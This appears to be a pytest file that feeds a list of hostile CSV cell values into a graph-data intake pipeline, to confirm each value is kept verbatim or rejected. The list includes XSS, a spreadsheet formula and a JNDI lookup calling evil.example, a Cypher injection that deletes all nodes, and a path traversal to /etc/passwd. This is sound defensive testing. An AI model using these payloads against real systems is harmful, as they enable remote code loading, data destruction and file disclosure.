"""Cells that would like to be a program, a formula, an order to a terminal or another cell: they stay what they say."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import pytest

from graphintel.intake.mapping.reading import find
from graphintel.intake.readers.files import InputFile
from graphintel.intake.run import Run
from graphintel.model.drafts import RecordDraft, settle
from graphintel.model.ids import Ids, canonical
from graphintel.model.record_json import dump_claims, dump_description, load_claims, load_description

Write = Callable[..., InputFile]
Drafts = Callable[..., tuple[list[RecordDraft], Run]]
SAMPLE = Path(__file__).parent / "data" / "seizures.csv"
IDS = Ids(b"a secret of the tests, 32 bytes!")
HOSTILE = (
    "<script>alert(1)</script>", '=HYPERLINK("http://evil.example")', "@SUM(1+1)", "{{7*7}}",
    "${jndi:ldap://evil.example}", "'; MATCH (n) DETACH DELETE n //", "` OR 1=1", "a\r\nb", "\x1b[31m",
    "\u202egnp\u2066", "\x00", "\ufeff", "9" * 400, "a" * 9_000, "../../etc/passwd", "|;,\t\"'", "nan", "-0", "1e999",
    "٢٠٢٦-٠١-٠١", "\u0301" * 200, "e\u0301", "🏴\u200d☠️",
)  # fmt: skip


def rows() -> tuple[list[str], list[str]]:
    """The heading and the first row of the sample."""
    with SAMPLE.open(encoding="utf-8", newline="") as file:
        heading, first, *_rest = csv.reader(file)
    return heading, first


@pytest.mark.parametrize("column", rows()[0])
def test_a_hostile_cell_is_kept_as_it_says_or_refused_with_its_line(column: str, drafts: Drafts, write: Write) -> None:
    heading, first = rows()
    at = heading.index(column)
    text = io.StringIO(newline="")
    table = csv.writer(text)
    table.writerow(heading)
    for nasty in HOSTILE:
        table.writerow([*first[:at], nasty, *first[at + 1 :]])

    found, run = drafts(find("seizures"), write(text.getvalue(), SAMPLE.name))

    totals = run.report.totals
    assert totals["read"] == len(HOSTILE) == len(found) + totals["unchanged"] + totals["rejected"]
    for draft in found:
        settled = settle(IDS, draft)
        canonical(draft.payload).encode()
        assert [load_description(dump_description(each)) for each in settled.descriptions] == list(settled.descriptions)
        assert load_claims(dump_claims(settled.claims)) == settled.claims
